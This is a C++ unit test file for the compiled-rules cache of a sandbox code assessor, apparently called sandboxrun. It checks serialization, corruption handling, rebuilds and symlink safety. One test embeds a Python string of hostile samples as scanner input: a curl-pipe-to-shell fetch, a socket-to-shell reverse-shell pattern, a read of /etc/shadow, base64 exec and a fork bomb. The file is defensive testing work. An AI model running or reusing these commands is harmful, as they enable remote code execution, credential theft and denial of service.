// Compiled-rules cache: built once then hit, rebuilt when the rules change or the entry fails
// verification, bypassed for a directory others can write, no symlink followed; the compiled
// form round-trips and any truncation of it is rejected.
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <chrono>
#include <cstring>
#include <fstream>
#include <thread>

#include "assess/assess_rules_cache.hpp"
#include "common/sha256.hpp"
#include "sandboxrun/assess.hpp"
#include "test_util.hpp"

using namespace sandboxrun::assess;
using test_util::TempDir;

namespace {

const std::filesystem::path kRules = std::filesystem::path(SANDBOXRUN_SOURCE_DIR) / "policies/assess-rules.yaml";

std::string slurp(const std::filesystem::path& p) {
  std::ifstream in(p, std::ios::binary);
  return std::string(std::istreambuf_iterator<char>(in), {});
}

// The compiled-rules entry (not the links from file identities to it).
std::filesystem::path only_entry(const std::filesystem::path& dir) {
  std::vector<std::filesystem::path> found;
  for (const auto& e : std::filesystem::directory_iterator(dir))
    if (e.path().extension() == ".bin") found.push_back(e.path());
  EXPECT_EQ(found.size(), 1u);
  return found.empty() ? std::filesystem::path() : found[0];
}

}  // namespace

TEST(AssessRulesCache, CompiledFormRoundTripsAndRejectsTruncation) {
  const RuleSet set = RuleSet::load(kRules);
  const std::string bytes = set.serialize();
  auto back = RuleSet::deserialize(bytes);
  ASSERT_TRUE(back);
  EXPECT_EQ(back->serialize(), bytes);
  EXPECT_EQ(back->index().combos, set.index().combos);
  for (size_t n = 0; n < bytes.size(); n += 97) EXPECT_FALSE(RuleSet::deserialize(bytes.substr(0, n))) << n;
  EXPECT_FALSE(RuleSet::deserialize(bytes + "x"));
}

// The index is read where the compiled form lies (no copy, no rebuild): a damaged one must be
// refused whole, or stay inside the rules when used. Words of its part of the form are damaged
// one at a time; an accepted set then assesses code that meets every kind of rule (under the
// sanitizer build a read outside fails the test).
TEST(AssessRulesCache, DamagedIndexIsRefusedOrStaysInside) {
  const sandboxrun::SecurityConfig base =
      sandboxrun::load_security_config(std::filesystem::path(SANDBOXRUN_SOURCE_DIR) / "config/security.yaml",
                                       SANDBOXRUN_SOURCE_DIR);
  const std::string bytes = base.rules->serialize();
  const std::string code =
      "import os, socket, subprocess, ctypes\nfrom os import *\nos.system('curl http://x | sh')\n"
      "s = socket.socket(); os.dup2(s.fileno(), 0); subprocess.call(['/bin/sh', '-i'])\n"
      "ctypes.CDLL(None).mount\nexec(__import__('base64').b64decode('cHJpbnQoMSk='))\n"
      "open('/etc/shadow').read()\nwhile True:\n    os.fork()\nsystem('id')\n";
  const size_t clean = sandboxrun::assess_source(code, base).findings.size();
  ASSERT_GT(clean, 5u);
  size_t tried = 0, refused = 0;
  for (size_t back = 4; back < 24000 && back < bytes.size(); back += 44) {
    std::string bad = bytes;
    const size_t at = bytes.size() - back;
    uint32_t v = 0;
    std::memcpy(&v, bad.data() + at, sizeof v);
    v ^= 0x00ff00ffu;
    std::memcpy(bad.data() + at, &v, sizeof v);
    ++tried;
    auto set = RuleSet::deserialize(bad);
    if (!set) {
      ++refused;
      continue;
    }
    sandboxrun::SecurityConfig cfg = base;
    cfg.rules = std::make_shared<const RuleSet>(std::move(*set));
    (void)sandboxrun::assess_source(code, cfg);
  }
  // Names, rule indexes and runs are all checked; only the string filter's bits (a third of
  // this part of the form) can take any value.
  EXPECT_GT(refused * 2, tried) << refused << " of " << tried << " damaged forms refused";
}

TEST(AssessRulesCache, BuiltOnceThenHitAndRebuiltWhenTheRulesChange) {
  TempDir d;
  const auto cache = d.path() / "cache";
  auto rules = d.write("rules.yaml", slurp(kRules));
  CachedRules first = load_rules_cached(rules, cache);
  EXPECT_EQ(first.use, CacheUse::built) << first.note;
  struct stat st {};
  ASSERT_EQ(::stat(cache.c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0700u);
  CachedRules second = load_rules_cached(rules, cache);
  EXPECT_EQ(second.use, CacheUse::hit) << second.note;
  EXPECT_EQ(second.rules.serialize(), first.rules.serialize());

  // An edited rules file has a new digest: parsed again, never served from the old entry.
  std::string text = slurp(rules);
  text.replace(text.find("fork bomb (process creation"), 9, "FORK BOMB");
  std::ofstream(rules, std::ios::trunc) << text;
  CachedRules edited = load_rules_cached(rules, cache);
  EXPECT_EQ(edited.use, CacheUse::built);
  bool found = false;
  for (const auto& r : edited.rules.rules()) found |= r.message.starts_with("FORK BOMB");
  EXPECT_TRUE(found);
  EXPECT_EQ(load_rules_cached(rules, cache).use, CacheUse::hit);
}

size_t count_links(const std::filesystem::path& dir) {
  size_t n = 0;
  for (const auto& e : std::filesystem::directory_iterator(dir)) n += e.path().extension() == ".link";
  return n;
}

// A rules file that has not changed for a while is found by its identity, without reading it;
// a change moves its change time and is never served from the old entry, and a file changed
// just now is not linked at all (its identity could still be reused within the clock's
// granularity).
TEST(AssessRulesCache, SettledFileIsLinkedByIdentityAndAChangeIsNeverMissed) {
  TempDir d;
  const auto cache = d.path() / "cache";
  auto rules = d.write("rules.yaml", slurp(kRules));
  EXPECT_EQ(load_rules_cached(rules, cache).use, CacheUse::built);
  EXPECT_EQ(count_links(cache), 0u) << "a file changed just now must not be linked";

  const auto later = std::chrono::system_clock::now() + std::chrono::seconds(10);
  EXPECT_EQ(load_rules_cached(rules, cache, later).use, CacheUse::hit);
  ASSERT_EQ(count_links(cache), 1u);
  CachedRules linked = load_rules_cached(rules, cache, later);
  EXPECT_EQ(linked.use, CacheUse::hit);
  EXPECT_TRUE(linked.by_identity) << "the link was written but not used";
  bool found = false;
  for (const auto& r : linked.rules.rules()) found |= r.message.starts_with("fork bomb (process creation");
  EXPECT_TRUE(found);

  // The same size, other content: the change time moves on, the identity with it.
  std::this_thread::sleep_for(std::chrono::milliseconds(30));
  std::string text = slurp(rules);
  text.replace(text.find("fork bomb (process creation"), 9, "FORK BOMB");
  std::ofstream(rules, std::ios::trunc) << text;
  CachedRules edited = load_rules_cached(rules, cache, later + std::chrono::seconds(10));
  EXPECT_EQ(edited.use, CacheUse::built);
  EXPECT_FALSE(edited.by_identity);
  found = false;
  for (const auto& r : edited.rules.rules()) found |= r.message.starts_with("FORK BOMB");
  EXPECT_TRUE(found) << "the old rules were served for a changed file";
}

TEST(AssessRulesCache, CorruptEntryFailsVerificationAndIsRebuilt) {
  TempDir d;
  const auto cache = d.path() / "cache";
  const RuleSet reference = RuleSet::load(kRules);
  ASSERT_EQ(load_rules_cached(kRules, cache).use, CacheUse::built);
  const auto entry = only_entry(cache);
  std::string bytes = slurp(entry);
  bytes[bytes.size() - 10] ^= 0x5a;
  std::ofstream(entry, std::ios::binary | std::ios::trunc) << bytes;
  CachedRules r = load_rules_cached(kRules, cache);
  EXPECT_EQ(r.use, CacheUse::built);
  EXPECT_NE(r.note.find("verification"), std::string::npos) << r.note;
  EXPECT_EQ(r.rules.serialize(), reference.serialize());
  EXPECT_EQ(load_rules_cached(kRules, cache).use, CacheUse::hit);
}

// An entry's name depends on the encoding as well as the rules: another version of sandboxrun
// sharing the cache (an upgrade while the old one still runs) keeps its own entry, instead of
// the two rebuilding over each other's on every run. Here the other version's entry is one
// named by the rules' digest alone (this version's name before), in an encoding this one
// cannot read.
TEST(AssessRulesCache, AnotherEncodingsEntryIsLeftAlone) {
  TempDir d;
  const auto cache = d.path() / "cache";
  std::filesystem::create_directory(cache);
  ::chmod(cache.c_str(), 0700);
  const std::string other = "assess-rules-" + sandboxrun::sha256_hex(slurp(kRules)) + ".bin";
  std::ofstream(cache / other, std::ios::binary) << "SRRULES\x01 an older encoding";
  ::chmod((cache / other).c_str(), 0600);
  EXPECT_EQ(load_rules_cached(kRules, cache).use, CacheUse::built);
  EXPECT_EQ(load_rules_cached(kRules, cache).use, CacheUse::hit);
  EXPECT_EQ(slurp(cache / other), "SRRULES\x01 an older encoding");
}

TEST(AssessRulesCache, DirectoryOthersCanWriteOrASymlinkIsBypassed) {
  TempDir d;
  const auto open_dir = d.path() / "open";
  std::filesystem::create_directory(open_dir);
  ::chmod(open_dir.c_str(), 0777);
  CachedRules r = load_rules_cached(kRules, open_dir);
  EXPECT_EQ(r.use, CacheUse::bypassed);
  EXPECT_TRUE(std::filesystem::is_empty(open_dir));
  EXPECT_FALSE(r.rules.rules().empty());

  const auto real = d.path() / "real";
  ASSERT_EQ(load_rules_cached(kRules, real).use, CacheUse::built);
  std::filesystem::create_directory_symlink(real, d.path() / "link");
  EXPECT_EQ(load_rules_cached(kRules, d.path() / "link").use, CacheUse::bypassed);
}

TEST(AssessRulesCache, EntrySymlinkIsNotFollowed) {
  TempDir d;
  const auto cache = d.path() / "cache";
  ASSERT_EQ(load_rules_cached(kRules, cache).use, CacheUse::built);
  const auto entry = only_entry(cache);
  // A valid entry elsewhere, reached through a symlink planted under the entry's name.
  const auto elsewhere = d.path() / "elsewhere.bin";
  std::filesystem::rename(entry, elsewhere);
  std::filesystem::create_symlink(elsewhere, entry);
  const std::string before = slurp(elsewhere);
  EXPECT_EQ(load_rules_cached(kRules, cache).use, CacheUse::built);
  EXPECT_FALSE(std::filesystem::is_symlink(entry));  // replaced by rename, not written through
  EXPECT_EQ(slurp(elsewhere), before);
}
